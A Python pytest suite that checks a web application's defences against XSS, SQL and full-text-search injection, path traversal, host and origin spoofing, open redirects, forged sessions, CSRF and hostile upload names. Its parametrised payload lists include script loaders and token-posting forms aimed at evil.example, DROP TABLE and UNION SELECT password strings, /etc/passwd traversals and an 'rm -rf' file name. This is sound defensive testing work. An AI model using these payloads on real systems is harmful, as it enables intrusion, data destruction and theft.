"""Attacks on the server, each by its own route; what is asserted is that none gets anywhere.

Every parameter is one attack; ``pytest tests/web/test_attacks.py`` says how many were tried.
"""

from __future__ import annotations

import json
import logging
import sqlite3
from datetime import date
from urllib.parse import quote, urlencode

import pytest
from lxml import html
from starlette.testclient import TestClient
from tests.builders import document, follow_up_reading, reading, report_reading, statement

from aftertalks.flow.keeping import Ledger
from aftertalks.model import Kind
from aftertalks.web import rendering
from aftertalks.web.access import Access
from aftertalks.web.app import application
from aftertalks.web.desk import Desk
from aftertalks.web.gate import book as books
from aftertalks.web.gate.roles import Role

HOST = "http://127.0.0.1:8017"
PAGE = {"accept": "text/html"}
SCRIPT = "/static/htmx-2.0.11.min.js"
OWN_SCRIPTS = {SCRIPT, f"/static/{rendering.script_name()}"}
PASSWORD = "correct horse battery"
XSS = (
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "'><svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=token></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<div hx-get=//evil.example hx-trigger=load></div>",
    "\u202e<script>alert(1)</script>\u2066",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
)
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE statement; --",
    '" OR 1=1 --',
    "1) UNION SELECT password FROM user --",
    "x' UNION SELECT 1,2,3,4,5 --",
    "%' OR 1=1 OR '%'='",
    "\\'; DELETE FROM judgement; --",
    "_%",
    "[a-z]*",
    "x\x00y",
)
FTS = (
    '"',
    '"a" OR "b',
    "a NEAR/2 b",
    "text:truce",
    "a AND",
    "NOT a",
    "^truce",
    "{text about}: truce",
    "a*b*",
    "(a",
    "-a",
    "truce) OR rowid:1",
    "*",
    "''",
    '""""',
    "a" * 499,
    "a " * 240,
    "statement_words MATCH 'x'",
    "col : val",
    "+",
)
PATHS = (
    "/static/../app.py",
    "/static/..%2f..%2fapp.py",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "/..%2f..%2f..%2fetc/passwd",
    "/document/../../../etc/passwd",
    "/document/..%2f..%2fetc%2fpasswd",
    "/document/%00",
    "/document/%2e%2e%2f.json",
    "/entry/..%5c..%5cwindows",
    "/static//etc/passwd",
    "//etc/passwd",
    "/static/htmx-2.0.11.min.js/../../app.py",
    "/entry/%252e%252e%252f",
    "/.env",
    "/.git/config",
    "/talks.db",
    "/talks.db.access",
)
HOSTS = (
    "evil.example",
    "127.0.0.1.evil.example",
    "evil.example:8017",
    "127.0.0.1@evil.example",
    "localhost.evil.example",
    "[::1].evil.example",
    "",
    " ",
    "127.0.0.1,evil.example",
    "127.0.0.1 evil.example",
    "0.0.0.0",
    "169.254.169.254",
    "127.0.0.1/../evil.example",
    "evil.example#127.0.0.1",
    "xn--lcalhost-54a",
)
ORIGINS = (
    "http://evil.example",
    "null",
    "http://127.0.0.1",
    "http://127.0.0.1:8018",
    "http://127.0.0.1:8017.evil.example",
    "http://127.0.0.1:8017@evil.example",
    "file://",
    "",
)
OUTSIDE = (
    "//evil.example",
    "https://evil.example",
    "http:evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "///evil.example",
    "/\tevil.example",
    "javascript:alert(1)",
    " //evil.example",
    "//evil.example/%2f..",
    "https:///evil.example",
    "/\r\nSet-Cookie: a=b",
    "\\/evil.example",
    "/login",
    "/logout",
    "data:text/html,x",
)
FORGED = (
    "x",
    "",
    "0" * 64,
    "../../etc/passwd",
    "' OR 1=1 --",
    "a" * 5000,
    "\x7f",
    "aftertalks",
    "Bearer x",
    "null",
    "[]",
)
CHANGES = ("/review", "/add", "/logout")
NAMES = (
    "../../etc/cron.d/x",
    "..\\..\\x.html",
    "/etc/passwd",
    "C:\\x.txt",
    "x.txt\x00.html",
    "a" * 3000 + ".txt",
    ".",
    "..",
    "-",
    "http://evil.example/x",
    "x.html;rm -rf",
    "<svg onload=alert(1)>.html",
    "con.html",
    "\u202etxt.exe",
)


@pytest.fixture(scope="module")
def ledger_path(tmp_path_factory):
    path = tmp_path_factory.mktemp("attacked") / "talks.db"
    with Ledger(path) as ledger:
        ledger.keep(report_reading())
        ledger.keep(follow_up_reading())
        for bad in XSS:
            whole = f"{bad} said Jordan to {bad}."
            doc = document(whole, title=bad, publisher=bad, source=bad, url=bad, author=bad)
            made = statement(
                doc,
                doc.text,
                Kind.POSITION,
                speaker=bad,
                actors=(bad,),
                where=bad,
                about=bad,
                instrument="truce",
                when=date(2017, 7, 9),
                when_text=bad,
                precision="day",
            )
            ledger.keep(reading(doc, made, notes=(bad,)))
    return path


@pytest.fixture(scope="module")
def desk(ledger_path):
    made = Desk(ledger_path, today=date(2017, 7, 8))
    yield made
    made.close()


@pytest.fixture(scope="module")
def client(desk):
    with TestClient(application(desk), base_url=HOST, follow_redirects=False, raise_server_exceptions=False) as made:
        yield made


@pytest.fixture(scope="module")
def team(ledger_path, tmp_path_factory):
    folder = tmp_path_factory.mktemp("team")
    made = Desk(ledger_path, today=date(2017, 7, 8), book=books.Book(folder / "x.access"))
    for name, role in (("Rita", Role.READER), ("Vera", Role.REVIEWER), ("Ada", Role.ADMIN)):
        made.book.add(name, role, password=PASSWORD)
    yield made
    made.close()


@pytest.fixture
def door(team):
    with TestClient(application(team, Access()), base_url=HOST, follow_redirects=False) as made:
        yield made


def harmless(answer, at):
    """Assert that a page runs nothing, loads nothing from elsewhere and sends nothing there."""
    assert answer.status_code < 500, at
    assert "script-src 'self'" in answer.headers["content-security-policy"]
    assert "unsafe" not in answer.headers["content-security-policy"]
    page = html.fromstring(answer.text or "<p></p>")
    assert {s.get("src") for s in page.iter("script")} <= OWN_SCRIPTS and not page.xpath("//script[text()]"), at
    assert not page.xpath("//@*[starts-with(name(), 'on')]"), at
    assert not page.xpath("//style | //iframe | //object | //embed | //base | //img | //@style | //@srcdoc"), at
    assert not page.xpath("//meta[@http-equiv and contains(translate(@content, 'URL', 'url'), 'url')]"), at
    for name in ("href", "src", "action", "formaction", "hx-get", "hx-post", "xlink:href"):
        for link in page.xpath(f"//@*[name()='{name}']"):
            assert (link.startswith(("/", "#", "?")) and not link.startswith("//")) or link.startswith(
                "http://127.0.0.1"
            ), link
    assert "49" not in "".join(page.itertext()) or "7 * 7" in answer.text or "49" in at


@pytest.mark.parametrize("bad", XSS)
def test_words_of_an_article_stay_words(client, desk, bad):
    hits = [
        h
        for h in desk.ledger.find()
        if h.statement.speaker == bad.replace("\x00", "\ufffd") or h.statement.speaker == bad
    ]
    assert hits, "the attack is in the ledger"
    hit = hits[0]
    for at in (f"/document/{hit.source.id}", f"/entry/{hit.entry}", f"/speaker?{urlencode({'name': bad})}"):
        harmless(client.get(at, headers=PAGE), at)
    record = client.get(f"/document/{hit.source.id}.json")
    assert record.headers["content-type"] == "application/json" and record.json()
    assert record.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(
    "at",
    [
        "/next",
        "/entries",
        "/search?q=said",
        "/timeline",
        "/map",
        "/matrix",
        "/actors",
        "/speakers",
        "/review",
        "/sources",
        "/log",
        "/add",
    ],
)
def test_pages_that_list_stay_harmless(client, at):
    harmless(client.get(at, headers=PAGE), at)


@pytest.mark.parametrize("bad", XSS)
def test_words_of_an_address_stay_words(client, bad):
    given = quote(bad, safe="")
    for at in (
        f"/search?q={given}&speaker={given}&kind={given}",
        f"/entries?actor={given}&book={given}&month={given}",
        f"/next?dossier={given}&as_of={given}",
        f"/{given}",
        f"/entry/{given}",
        f"/document/{given}",
        f"/login?to={given}",
        f"/review?by={given}",
        f"/log?who={given}",
        f"/pair?a={given}&b={given}",
    ):
        harmless(client.get(at, headers=PAGE), at)
        twin = client.get(at, headers={"accept": "application/json"})
        assert twin.status_code < 500 and "script" not in twin.headers["content-type"]


@pytest.mark.parametrize("at", ["/changes.atom?as_of=2017-07-08", "/deadlines.ics?as_of=2017-07-08"])
def test_feeds_carry_words_as_words(client, at):
    pytest.importorskip("icalendar")
    answer = client.get(at)
    assert answer.status_code == 200 and "html" not in answer.headers["content-type"]
    assert "<script" not in answer.text.replace("&lt;script", "") or "ics" in at
    assert "\nX-EVIL" not in answer.text


@pytest.mark.parametrize("bad", [*SQL, *FTS])
def test_words_never_are_a_query(client, ledger_path, bad):
    def counts():
        with sqlite3.connect(ledger_path) as file:
            return [
                file.execute(f"SELECT count(*) FROM {t}").fetchone() for t in ("statement", "document", "judgement")
            ]

    before = counts()
    every = client.get("/search.json").json()
    for name in ("q", "speaker", "actor", "publisher", "kind"):
        answer = client.get(f"/search.json?{urlencode({name: bad})}")
        assert answer.status_code in {200, 400}, answer.text
        if answer.status_code == 200 and name != "q":
            assert answer.json()["total"] < every["total"]
    for at in (f"/entry/{quote(bad, safe='')}", f"/document/{quote(bad, safe='')}.json"):
        assert client.get(at).status_code in {400, 404}
    assert counts() == before


@pytest.mark.parametrize("at", PATHS)
def test_no_path_leads_to_a_file(client, at):
    answer = client.get(at)
    assert answer.status_code in {303, 307, 400, 404} and b"root:" not in answer.content
    assert b"SQLite format" not in answer.content and b"def " not in answer.content


@pytest.mark.parametrize("host", HOSTS)
def test_other_hosts_are_refused(client, host):
    assert client.get("/next", headers={"host": host}).status_code in {400, 421}


@pytest.mark.parametrize("host", ["127.0.0.1:8017", "localhost"])
def test_no_address_is_made_of_what_a_proxy_header_says(client, host):
    headers = {
        "host": host,
        "x-forwarded-host": "evil.example",
        "x-forwarded-proto": "https",
        "forwarded": "host=evil.example",
        "x-original-url": "/log",
        "x-http-method-override": "POST",
    }
    answer = client.get("/changes.atom", headers=headers)
    assert (
        "evil.example" not in answer.text.replace("//evil.example", "")
        and "strict-transport-security" not in answer.headers
    )


@pytest.mark.parametrize("at", CHANGES)
@pytest.mark.parametrize("origin", ORIGINS)
def test_no_other_site_changes_anything(client, at, origin):
    answer = client.post(at, data={"text": "x", "action": "accept", "question": "x"}, headers={"origin": origin})
    assert answer.status_code == 403


@pytest.mark.parametrize("at", [*CHANGES, "/login"])
@pytest.mark.parametrize("sent", ["form", "json", "text", "multipart", "nothing"])
def test_no_form_without_its_token_is_taken(door, at, sent):
    bodies = {
        "form": {"data": {"name": "Ada", "password": PASSWORD, "token": "0" * 64}},
        "json": {"content": json.dumps({"token": "x"}), "headers": {"content-type": "application/json"}},
        "text": {"content": "token=x", "headers": {"content-type": "text/plain"}},
        "multipart": {"files": {"file": ("a.txt", b"x")}},
        "nothing": {},
    }
    assert door.post(at, **bodies[sent]).status_code in {400, 401, 403}


@pytest.mark.parametrize("site", ["cross-site", "same-site"])
@pytest.mark.parametrize("at", CHANGES)
def test_what_the_browser_calls_foreign_is_refused(client, at, site):
    assert client.post(at, headers={"sec-fetch-site": site}).status_code == 403


def form_token(door, at="/login"):
    return html.fromstring(door.get(at, headers=PAGE).text).xpath("string(//input[@name='token']/@value)")


def sign_in(door, name, to="/next"):
    return door.post("/login", data={"name": name, "password": PASSWORD, "to": to, "token": form_token(door)})


@pytest.mark.parametrize("to", OUTSIDE)
def test_signing_in_leads_nowhere_else(door, to):
    answer = sign_in(door, "Rita", to=to)
    assert answer.status_code == 303 and answer.headers["location"] == "/next"
    assert answer.headers.get_list("set-cookie") and not any("a=b" in c for c in answer.headers.get_list("set-cookie"))


@pytest.mark.parametrize("secret", FORGED)
def test_no_made_up_session_or_token_opens(door, secret):
    plain = secret.replace("\x7f", "")
    assert door.get("/next.json", headers={"cookie": f"aftertalks_session={plain}"}).status_code == 401
    assert door.get("/next.json", headers={"authorization": f"Bearer {plain}"}).status_code == 401
    assert door.get("/next.json", headers={"authorization": f"Basic {plain}"}).status_code == 401


def test_a_session_chosen_by_somebody_else_is_not_taken_over(door):
    door.cookies.set("aftertalks_session", "chosen-by-the-attacker")
    answer = sign_in(door, "Vera")
    assert answer.cookies["aftertalks_session"] != "chosen-by-the-attacker"
    door.cookies.clear()
    assert door.get("/next.json", headers={"cookie": "aftertalks_session=chosen-by-the-attacker"}).status_code == 401


def test_two_sessions_never_share_a_secret(door):
    seen = set()
    for _ in range(5):
        seen.add(sign_in(door, "Rita").cookies["aftertalks_session"])
        door.cookies.clear()
    assert len(seen) == 5 and all(len(s) >= 43 for s in seen)


@pytest.mark.parametrize("at", ["/review", "/add", "/log"])
def test_a_reader_reaches_nothing_that_changes(door, at):
    sign_in(door, "Rita")
    assert door.get(at, headers=PAGE).status_code == 403
    assert door.post(at, data={"token": form_token(door, "/next")}).status_code in {403, 405}


@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "X" * 20])
def test_other_methods_do_nothing(client, method):
    assert client.request(method, "/next").status_code in {400, 403, 405}


@pytest.mark.parametrize("name", ["password", "Password", "PASSWORD"])
def test_nothing_secret_is_in_the_log(door, team, name, caplog):
    caplog.set_level(logging.DEBUG)
    door.post("/login", data={"name": "Ada", "password": "wrong horse " + name, "token": form_token(door)})
    assert not any("wrong horse" in str(line) for line in team.book.lines()) and "wrong horse" not in caplog.text


@pytest.mark.parametrize("name", NAMES)
def test_no_file_name_leads_anywhere(client, name, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    before = client.get("/sources.json").json()
    token = form_token(client, "/add")
    answer = client.post("/add", data={"token": token}, files={"file": (name, b"\x89PNG\r\n\x1a\n")})
    assert answer.status_code in {303, 400, 429}
    if answer.status_code == 303:
        harmless(client.get(answer.headers["location"], headers=PAGE), answer.headers["location"])
    assert client.get("/sources.json").json() == before and not list(tmp_path.iterdir())


@pytest.mark.parametrize("given", ["file:///etc/passwd", "gopher://x", "ftp://x/y", "//127.0.0.1/", "/etc/passwd", "-"])
def test_only_web_addresses_are_added(client, given):
    answer = client.post("/add", data={"token": form_token(client, "/add"), "url": given})
    assert answer.status_code == 400


@pytest.mark.parametrize(
    "headers",
    [
        {"content-length": "99999999999999999999"},
        {"content-length": "-1"},
        {"content-length": "1e9"},
        {"content-length": "20000001"},
        {"content-length": "٣"},
    ],
)
def test_bodies_that_claim_too_much_are_refused(client, headers):
    encoded = {k: v.encode() for k, v in headers.items()}
    assert client.post("/add", headers=encoded, content=b"").status_code in {400, 413}


@pytest.mark.parametrize("fields", [1000, 25])
def test_forms_of_too_many_fields_are_refused(client, fields):
    many = {f"f{n}": "x" for n in range(fields)}
    answer = client.post("/add", data=many, files={"file": ("a.txt", b"x")})
    assert answer.status_code in {400, 403, 413}


def test_a_form_of_many_files_is_refused(client):
    files = [("file", (f"{n}.txt", b"x")) for n in range(50)]
    assert client.post("/add", files=files).status_code in {400, 403, 413}


@pytest.mark.parametrize("at", ["/next", "/login", "/missing", "/openapi.json", SCRIPT, "/next.json", "/changes.atom"])
def test_every_answer_bears_the_headers(client, at):
    headers = client.get(at).headers
    assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] == "same-origin"
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert headers["cross-origin-opener-policy"] == headers["cross-origin-resource-policy"] == "same-origin"
    assert "camera=()" in headers["permissions-policy"] and "server" not in headers
    assert "access-control-allow-origin" not in headers


@pytest.mark.parametrize("origin", ORIGINS[:3])
def test_no_other_site_reads_answers(client, origin):
    for method in ("GET", "OPTIONS"):
        headers = {"origin": origin, "access-control-request-method": "GET"}
        assert not [h for h in client.request(method, "/next.json", headers=headers).headers if "access-control" in h]
